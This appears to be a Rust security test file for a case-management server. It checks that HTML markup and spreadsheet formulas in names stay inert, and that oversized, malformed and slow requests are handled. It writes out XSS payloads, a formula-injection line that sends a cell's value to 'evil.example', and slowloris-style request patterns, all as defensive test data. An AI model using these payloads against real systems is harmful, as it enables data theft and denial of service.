//! Attacks by content and by manners: markup and formulas in names, requests that are too large or
//! too slow. Those on who may do what are in `access.rs`.

#![expect(clippy::unwrap_used, reason = "a test that cannot look has failed")]

mod support;

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use support::client::Server;
use support::{crossroll, sandbox};

const MARKUP: &str = "Samir <script>alert(1)</script> <img src=x onerror=alert(1)>";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1)";

fn case_of(root: &std::path::Path) -> String {
    let case = root.join("case").to_str().unwrap().to_owned();
    let stick = root.join("stick");
    fs::create_dir(&stick).unwrap();
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let rows = format!(
        "name,birth_date\n{},1985-03-14\n{},1986-03-14\n+1 Example,1987-03-14\n@cmd Example,1988-03-14\n",
        quoted(MARKUP),
        quoted(FORMULA)
    );
    fs::write(stick.join("<b>r.csv"), rows).unwrap();
    crossroll(&["new", &case]);
    crossroll(&["add", &case, stick.to_str().unwrap()]);
    crossroll(&["run", &case]);
    case
}

#[test]
fn names_that_are_markup_or_formulas_stay_text() {
    let folder = sandbox();
    let case = case_of(folder.path());
    let server = Server::start(&[&case]);
    let home = server.get("/plain/").text;
    let mut pages = vec![home.clone()];
    for link in home.split("href=\"/plain/leads/").skip(1) {
        let id = link.split('"').next().unwrap();
        let lead = server.get(&format!("/plain/leads/{id}")).text;
        let document =
            lead.split("href=\"/plain/documents/").nth(1).unwrap().split('"').next().unwrap();
        pages.push(server.get(&format!("/plain/documents/{document}")).text);
        pages.push(lead);
    }
    let html = folder.path().join("leads.html");
    crossroll(&["leads", &case, "--html", html.to_str().unwrap()]);
    pages.push(fs::read_to_string(&html).unwrap());
    assert!(pages.len() > 4);
    assert!(pages.iter().any(|page| page.contains("alert(1)")), "the name is shown");
    for page in &pages {
        for tag in ["<script", "<img src=x", "<b>r.csv"] {
            assert!(!page.contains(tag), "{tag}: {page}");
        }
    }
    let table = crossroll(&["leads", &case, "--csv"]).stdout;
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let mut cells = 0;
    for row in reader.records() {
        for cell in &row.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            cells += 1;
        }
    }
    assert!(cells > 20 && table.contains("'=HYPERLINK"), "{table}");
}

#[test]
fn oversized_and_slow_requests_hurt_nobody_else() {
    let folder = sandbox();
    let case = case_of(folder.path());
    let server = Server::start(&[&case]);
    let bearer = format!("Bearer {}", server.token.as_deref().unwrap());
    let huge = "x".repeat(5 << 20);
    let headers = [("Authorization", bearer.as_str()), ("Content-Type", "application/json")];
    let path = "/api/v1/cases/case/protection";
    let stated = format!(
        "PUT {path} HTTP/1.1\r\nHost: {}\r\nContent-Length: {}\r\n\r\n",
        server.address,
        huge.len()
    );
    assert_eq!(server.raw(stated.as_bytes()).code, 413);
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let reply = server.send("PUT", path, &headers, &deep);
    assert!([400, 415, 422].contains(&reply.code), "{}", reply.code);
    let long = format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "x".repeat(200_000));
    assert!([0, 414, 431].contains(&server.raw(long.as_bytes()).code));
    for broken in [&b"\x16\x03\x01\x02\x00"[..], b"GET\r\n\r\n", b"\0\0\0\0\r\n\r\n"] {
        assert!([0, 400].contains(&server.raw(broken).code));
    }
    // Clients that never come to an end: others are answered meanwhile, and they are let go.
    let slow: Vec<TcpStream> = (0..40)
        .map(|n| {
            let mut stream = TcpStream::connect(&server.address).unwrap();
            let head = if n % 2 == 0 {
                "GET / HTTP/1.1\r\nHost: ".to_owned()
            } else {
                format!("PUT {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 99\r\n\r\n{{")
            };
            stream.write_all(head.as_bytes()).unwrap();
            stream
        })
        .collect();
    let begun = Instant::now();
    assert_eq!(server.get("/plain/").code, 200);
    assert!(begun.elapsed() < Duration::from_secs(5));
    for mut stream in slow {
        stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let mut answer = Vec::new();
        // Let go with an answer, or without one.
        let _ = stream.read_to_end(&mut answer);
    }
    assert!(begun.elapsed() < Duration::from_mins(1));
    assert_eq!(server.get("/plain/").code, 200);
}
